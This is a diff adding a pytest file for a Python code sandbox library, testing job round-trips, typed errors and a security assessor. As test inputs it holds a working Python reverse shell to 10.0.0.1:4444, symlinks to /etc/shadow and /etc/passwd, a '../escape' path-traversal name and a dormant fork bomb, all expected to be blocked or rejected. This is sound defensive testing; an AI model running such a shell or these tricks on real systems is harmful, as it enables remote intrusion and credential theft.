@@ -1,0 +1,105 @@
+"""The Python API round-trips a job: files and stdin in, outputs and manifests out, typed errors."""
+import hashlib
+import json
+import struct
+import zlib
+
+import pytest
+
+from sandboxrun import BlockedError, SetupError, UsageError
+from sandboxrun.compat import SafetyCoordinator, SandboxExecutor, SecurityAssessor, SecurityLevel
+
+ANALYSIS = r"""
+import csv, json, struct, sys, zlib
+import helpers
+values = [float(r['value']) for r in csv.DictReader(open('data/input.csv'))]
+extra = float(sys.stdin.read())
+def chunk(kind, data):
+    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data) & 0xffffffff)
+raw = b''.join(b'\x00' + bytes([int(v) % 256] * 6) for v in values)
+png = b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 2, len(values), 8, 2, 0, 0, 0)) \
+    + chunk(b'IDAT', zlib.compress(raw)) + chunk(b'IEND', b'')
+open('plot.png', 'wb').write(png)
+json.dump({'total': helpers.total(values) + extra, 'argv': sys.argv[1:]}, open('report.json', 'w'))
+print('ok')
+"""
+
+REVERSE_SHELL = """import socket, subprocess, os
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("10.0.0.1", 4444))
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+os.dup2(s.fileno(), 2)
+subprocess.call(["/bin/sh", "-i"])
+"""
+
+
+def test_analysis_round_trip(sandbox, tmp_path):
+    helpers = tmp_path / "helpers.py"
+    helpers.write_text("def total(v):\n    return sum(v)\n")
+    csv_bytes = b"name,value\na,1\nb,2\nc,3\n"
+    r = sandbox.run(ANALYSIS, files={"data/input.csv": csv_bytes, "helpers.py": helpers}, stdin=b"0.25",
+                    args=["--fast"], caller="svc-42", labels={"team": "ml"})
+    assert r.exit_code == 0, r.stderr
+    assert r.status == "exited" and r.stdout == "ok\n"
+    assert set(r.outputs) == {"plot.png", "report.json"}  # unchanged inputs do not come back
+    for rec in r.output_manifest:
+        assert hashlib.sha256(r.outputs[rec.path]).hexdigest() == rec.sha256
+        assert rec.size == len(r.outputs[rec.path])
+    assert r.outputs["plot.png"].startswith(b"\x89PNG")
+    assert json.loads(r.outputs["report.json"]) == {"total": 6.25, "argv": ["--fast"]}
+    inputs = {f.path: f for f in r.inputs}
+    assert inputs["data/input.csv"].sha256 == hashlib.sha256(csv_bytes).hexdigest()
+    assert set(inputs) == {"data/input.csv", "helpers.py"}
+    assert r.caller == "svc-42" and r.labels == {"team": "ml"}
+    assert r.outputs_truncated is False
+    assert sandbox.audit_verify().ok
+
+
+def test_input_module_with_reverse_shell_is_blocked(sandbox):
+    with pytest.raises(BlockedError) as e:
+        sandbox.run("import helper\n", files={"helper.py": REVERSE_SHELL.encode()})
+    assert e.value.result.assessment.level == "BLOCKED"
+    assert any(f.message.startswith("helper.py: ") for f in e.value.result.assessment.findings)
+
+
+def test_outputs_survive_timeout_and_caps_are_reported(sandbox):
+    r = sandbox.run("import os, time\nopen('partial.txt', 'w').write('half')\nos.symlink('/etc/shadow', 'link')\n"
+                    "time.sleep(30)\n", timeout=1)
+    assert r.status == "timeout" and r.exit_code == 124
+    assert r.outputs == {"partial.txt": b"half"}
+    assert any("symbolic link to /etc/shadow" in s["reason"] for s in r.outputs_skipped)
+
+
+def test_typed_errors(sandbox, tmp_path):
+    with pytest.raises(UsageError):
+        sandbox.run("print(1)\n", labels={"bad key": "x"})
+    with pytest.raises(UsageError):
+        sandbox.run("print(1)\n", files={"../escape": b"x"})
+    link = tmp_path / "link"
+    link.symlink_to("/etc/passwd")
+    with pytest.raises(SetupError) as e:
+        sandbox.run("print(1)\n", files={"passwd": link})
+    assert "symbolic link" in str(e.value)
+    # The program's own exit status is not an error of the sandbox.
+    r = sandbox.run("raise SystemExit(2)\n")
+    assert r.exit_code == 2 and r.status == "exited"
+
+
+def test_assess(sandbox):
+    a = sandbox.assess(REVERSE_SHELL)
+    assert a.level == "BLOCKED" and a.findings
+    assert sandbox.assess("print(1)\n").level == "LOW"
+
+
+def test_compat_names(sandbox):
+    assert SecurityAssessor(sandbox).assess(REVERSE_SHELL).level is SecurityLevel.BLOCKED
+    assert SandboxExecutor(sandbox).execute("print(40 + 2)\n").stdout == "42\n"
+    coordinator = SafetyCoordinator(sandbox)
+    dormant = "import os\nif False:\n    while True:\n        os.fork()\nprint('ran')\n"
+    with pytest.raises(BlockedError):
+        coordinator.execute_safely(dormant)
+    with pytest.raises(UsageError):
+        coordinator.execute_safely(dormant, override_explanation="  ")
+    r = coordinator.execute_safely(dormant, override_explanation="reviewed: the loop is dead code")
+    assert r.stdout == "ran\n" and r.raw["overridden"] is True
